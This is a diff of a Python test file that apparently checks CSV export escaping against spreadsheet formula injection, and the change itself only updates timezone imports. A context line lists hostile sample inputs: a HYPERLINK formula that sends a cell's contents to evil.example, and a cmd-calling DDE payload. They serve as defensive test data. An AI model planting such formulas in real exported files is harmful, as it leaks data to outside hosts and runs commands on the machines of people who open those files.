@@ -4,7 +4,7 @@ leading single quote (OWASP), names masked or not, headings included."""
 from __future__ import annotations
 
 import csv
-from datetime import datetime, timezone
+from datetime import UTC, datetime
 
 import pytest
 
@@ -18,7 +18,7 @@ HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"点击")', "+1+cmd|' /C cal
 def _item(title: str, name: str) -> AtRisk:
     return AtRisk(case_id="c1", number="=2026-0001", kind="consultation", title=title,
                   status="in_progress", assignee_id="o1", clock="reply",
-                  due_at=datetime(2026, 3, 2, 9, tzinfo=timezone.utc), level="overdue",
+                  due_at=datetime(2026, 3, 2, 9, tzinfo=UTC), level="overdue",
                   provisional=False, citizen_name=name, citizen_phone="-13912345678")
 
 
